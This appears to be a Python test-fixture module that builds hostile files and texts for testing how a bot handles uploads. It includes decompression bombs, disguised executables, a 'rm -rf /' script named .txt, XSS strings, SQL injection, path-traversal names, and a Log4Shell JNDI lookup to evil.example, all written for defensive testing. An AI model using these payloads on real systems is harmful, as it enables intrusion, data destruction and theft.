"""Hostile inputs, made in memory: files that lie (about their type, size, name or pixels),
polyglots, malformed documents, and texts meant to break HTML, Fluent, logs or databases."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from datetime import date

from tests.fixtures import samples

MB = 1024 * 1024

#: What the bot should do with a file: take it as a record, refuse it, or either (kindly).
ACCEPT, REFUSE, EITHER = "accept", "refuse", "either"


@dataclass(frozen=True)
class HostileFile:
    name: str             # the case's name in the results table
    data: bytes
    file_name: str | None = "file.bin"
    mime: str | None = None
    declared_size: int | None = None
    photo: bool = False   # sent as a photo (no name), not as a document
    expect: str = EITHER


# -- building blocks ----------------------------------------------------------------------------

def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(
        ">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_claiming(width: int, height: int) -> bytes:
    """A well-formed PNG header claiming ``width`` x ``height`` pixels, with a tiny body: a
    pixel flood (decoding it would need gigabytes)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + \
        _chunk(b"IEND", b"")


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header (SOF0) is rewritten to claim a huge size."""
    data = bytearray(samples.jpeg(None))
    at = data.find(b"\xff\xc0")
    assert at > 0
    data[at + 5:at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def pdf_unique(seed: int) -> bytes:
    """A real, small PDF that differs by ``seed`` (so duplicates are not the point)."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    writer.add_metadata({"/Title": f"hostile {seed}",
                         "/CreationDate": f"D:{date(2024, 1, 1 + seed % 28):%Y%m%d}000000Z"})
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def zip_of(name: str, content: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(name, content)
    return buf.getvalue()


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def pdf_recursive() -> bytes:
    """A PDF whose Info dictionary refers to itself, with a broken cross-reference table."""
    return (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
            b"3 0 obj << /Type /Page /Parent 2 0 R /Info 4 0 R >> endobj\n"
            b"4 0 obj << /CreationDate (D:20240101) /Self 4 0 R /Next 4 0 R >> endobj\n"
            b"xref\n0 99999999\n0000000000 65535 f \n"
            b"trailer << /Size 99999999 /Root 1 0 R /Info 4 0 R >>\nstartxref\n9\n%%EOF\n")


def pdf_stream_bomb() -> bytes:
    """A PDF with a FlateDecode stream that inflates to 100 MB (the bot reads metadata only)."""
    body = zlib.compress(b"\x00" * (100 * MB), 9)
    return (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
            b"3 0 obj << /Length " + str(len(body)).encode() + b" /Filter /FlateDecode >>\n"
            b"stream\n" + body + b"\nendstream endobj\n"
            b"trailer << /Root 1 0 R >>\n%%EOF\n")


def dicom_claiming(rows: int, columns: int) -> bytes:
    data = bytearray(samples.dicom())
    return bytes(data) + struct.pack("<HH2sHHH", 0x0028, 0x0010, b"US", 2, rows, 0) + \
        struct.pack("<HH2sHH", 0x0028, 0x0011, b"US", 2, columns)


# -- the files -----------------------------------------------------------------------------------

def hostile_files() -> list[HostileFile]:
    pdf = pdf_unique
    files = [
        # Pixel floods: Pillow's decompression-bomb guard must hold; the bot refuses them.
        HostileFile("png 50000x50000 as document", png_claiming(50000, 50000), "scan.png",
                    "image/png", expect=REFUSE),
        HostileFile("png 50000x50000 as photo", png_claiming(50000, 50000), None, photo=True,
                    expect=REFUSE),
        HostileFile("png 100000x1 wide", png_claiming(100000, 1), "wide.png", "image/png"),
        HostileFile("png 2^31-1 square", png_claiming(2**31 - 1, 2**31 - 1), "max.png",
                    "image/png", expect=REFUSE),
        HostileFile("png 0x0", png_claiming(0, 0), "zero.png", "image/png"),
        HostileFile("jpeg 50000x50000 as document", jpeg_claiming(50000, 50000), "x.jpg",
                    "image/jpeg", expect=REFUSE),
        HostileFile("jpeg 50000x50000 as photo", jpeg_claiming(50000, 50000), None,
                    photo=True, expect=REFUSE),
        HostileFile("jpeg 65535x65535", jpeg_claiming(65535, 65535), "max.jpg", "image/jpeg",
                    expect=REFUSE),
        HostileFile("dicom claiming 65535x65535", dicom_claiming(65535, 65535), "ct.dcm",
                    "application/dicom"),
        # Lies about the size.
        HostileFile("declares 25 MB, is tiny", pdf(1), "small.pdf", "application/pdf",
                    declared_size=25 * MB, expect=REFUSE),
        HostileFile("declares 20 MB + 1", pdf(2), "edge.pdf", "application/pdf",
                    declared_size=20 * MB + 1, expect=REFUSE),
        HostileFile("photo declares 30 MB", samples.png(color="red"), None, photo=True,
                    declared_size=30 * MB, expect=REFUSE),
        HostileFile("declares 1 byte, is 21 MB", b"%PDF-1.4\n" + b"0" * (21 * MB), "big.pdf",
                    "application/pdf", declared_size=1, expect=REFUSE),
        HostileFile("declares 0 bytes", pdf(3), "zero.pdf", "application/pdf",
                    declared_size=0, expect=ACCEPT),
        # Lies about the type (MIME and name).
        HostileFile("pdf sent as image/png", pdf(4), "doc.pdf", "image/png", expect=ACCEPT),
        HostileFile("png sent as application/pdf", samples.png(color="green"), "pic.png",
                    "application/pdf", expect=ACCEPT),
        HostileFile("exe sent as application/pdf", EXE, "report.pdf", "application/pdf",
                    expect=REFUSE),
        HostileFile("elf named .jpg", ELF, "photo.jpg", "image/jpeg", expect=REFUSE),
        HostileFile("zip named .jpg", zip_of("a.txt", b"hi"), "scan.jpg", "image/jpeg",
                    expect=REFUSE),
        HostileFile("docx named .pdf", zip_of("word/document.xml", b"<w/>"), "x.pdf",
                    "application/pdf", expect=REFUSE),
        HostileFile("html named .txt", b"<!doctype html><script>alert(1)</script>",
                    "notes.txt", "text/plain", expect=REFUSE),
        HostileFile("svg with script named .png", b"<svg onload=alert(1)></svg>", "a.png",
                    "image/png", expect=REFUSE),
        HostileFile("pdf named .jpg", pdf(5), "photo.jpg", "image/jpeg", expect=REFUSE),
        HostileFile("jpeg named .pdf", samples.jpeg(None, color="blue"), "doc.pdf",
                    "application/pdf", expect=REFUSE),
        HostileFile("shell script named .txt", b"#!/bin/sh\nrm -rf /\n", "run.txt",
                    "text/plain", expect=REFUSE),
        HostileFile("old office file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64,
                    "x.doc", "application/msword", expect=REFUSE),
        HostileFile("gzip named .dcm", zlib.compress(b"x" * 100)[:2] + b"\x1f\x8b" * 10,
                    "ct.dcm", "application/dicom", expect=REFUSE),
        # Polyglots: taken by what their head is, stored sealed, never run or rendered.
        HostileFile("pdf + zip polyglot", pdf(6) + zip_of("evil.exe", EXE), "p.pdf",
                    "application/pdf", expect=ACCEPT),
        HostileFile("zip + pdf polyglot", zip_of("a", b"b") + pdf(7), "p.pdf",
                    "application/pdf", expect=REFUSE),
        HostileFile("jpeg + appended exe", samples.jpeg(None, color="yellow") + EXE, "j.jpg",
                    "image/jpeg", expect=ACCEPT),
        HostileFile("png + appended zip", samples.png(color="purple") + zip_of("x", b"y"),
                    "p.png", "image/png", expect=ACCEPT),
        HostileFile("pdf with javascript", pdf(8).replace(
            b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1))"
            b" >>", 1), "js.pdf", "application/pdf", expect=ACCEPT),
        # Malformed documents: no crash, no hang.
        HostileFile("empty file", b"", "empty.pdf", "application/pdf", expect=REFUSE),
        HostileFile("one byte", b"%", "one.pdf", "application/pdf", expect=REFUSE),
        HostileFile("pdf header only", b"%PDF-1.7", "head.pdf", "application/pdf"),
        HostileFile("pdf recursive info", pdf_recursive(), "loop.pdf", "application/pdf"),
        HostileFile("pdf 100 MB stream bomb", pdf_stream_bomb(), "bomb.pdf",
                    "application/pdf"),
        HostileFile("truncated jpeg", samples.jpeg(date(2023, 1, 2))[:40], "cut.jpg",
                    "image/jpeg"),
        HostileFile("heif box with garbage", b"\x00\x00\x00\x18ftypheic" + b"\xff" * 200,
                    "x.heic", "image/heic"),
        HostileFile("text with NUL bytes", b"hello\x00world\x00" * 10, "nul.txt",
                    "text/plain", expect=REFUSE),
        HostileFile("utf-16 text", "Kết quả xét nghiệm".encode("utf-16"), "u16.txt",
                    "text/plain", expect=REFUSE),
        HostileFile("invalid utf-8 text", b"\xc3\x28\xa0\xa1" * 40, "bad.txt", "text/plain",
                    expect=REFUSE),
        HostileFile("one megabyte of text", b"glucose 5.4 mmol/L\n" * 55000, "lab.txt",
                    "text/plain", expect=ACCEPT),
    ]
    # Hostile names on good content (the name is never stored; a lying suffix is refused).
    names = {
        "path traversal": "../../etc/passwd",
        "windows traversal": "..\\..\\Windows\\System32\\drivers\\etc\\hosts",
        "absolute path": "/etc/shadow",
        "NUL in name": "report\x00.exe",
        "RTL override": "report\u202efdp.exe",
        "300-char name": "a" * 296 + ".pdf",
        "HTML in name": "<b>bold</b><script>alert(1)</script>.pdf",
        "entity in name": "&amp;&lt;&#0;.pdf",
        "newline in name": "line1\nline2\r\n.pdf",
        "dot only": ".",
        "empty name": "",
        "reserved device name": "CON.pdf",
        "double extension": "scan.pdf.exe",
        "emoji name": "🩺📄💊.pdf",
        "format string": "%s%n%x.pdf",
        "Fluent placeable": "{ $emergency_number }.pdf",
    }
    for n, (label, file_name) in enumerate(names.items(), start=20):
        suffix_lies = file_name.endswith(".exe") or "\u202e" in file_name
        files.append(HostileFile(f"name: {label}", pdf(n), file_name, "application/pdf",
                                 expect=REFUSE if suffix_lies else ACCEPT))
    return files


# -- texts ----------------------------------------------------------------------------------------

HTML_TEXTS = [
    "<b>bold</b>",
    "</code>",
    "<code>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=javascript:alert(document.cookie)>",
    "<b><i>unbalanced",
    "</b></i></u></s></pre></blockquote>",
    "<<>><><<<>>>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<tg-spoiler>hidden</tg-spoiler>",
    "<pre><code class=\"language-python\">print(1)",
    "<blockquote expandable>quote",
    "<span class=\"tg-spoiler\">x</span>",
    "<br><p>paragraph</p>",
    "&",
    "&amp;&lt;&gt;&quot;",
    "&#0;&#x110000;&#99999999;",
    "&nbsp;&copy;&unknown;",
    "a < b && c > d",
]
CONTROL_TEXTS = [
    "\u202eevil text reversed",
    "\u200b\u200c\u200d\u2060zero width",
    "\ufeffbom at start",
    "a\u0301\u0302\u0303\u0304\u0305\u0306 zalgo",
    "\x07bell \x08backspace \x1b[31mansi",
    "tab\tand\r\ncarriage return",
    "   leading and trailing spaces   ",
    "\u2028line separator\u2029paragraph",
    "مرحبا بالعالم",
    "Kết quả xét nghiệm máu bình thường",
    "🙂" * 300,
]
INJECTION_TEXTS = [
    "{ $emergency_number }",
    "{ -brand }",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "%s%s%s%n%x",
    "'; DROP TABLE cases; --",
    "\" OR 1=1 --",
    "@everyone /start /deleteme",
]
LONG_TEXTS = [
    "A" * 4097,
    "&" * 1999,
    "<" * 1500,
    "&" * 600,
    ("word " * 900).strip(),
]
ALL_TEXTS = HTML_TEXTS + CONTROL_TEXTS + INJECTION_TEXTS + LONG_TEXTS
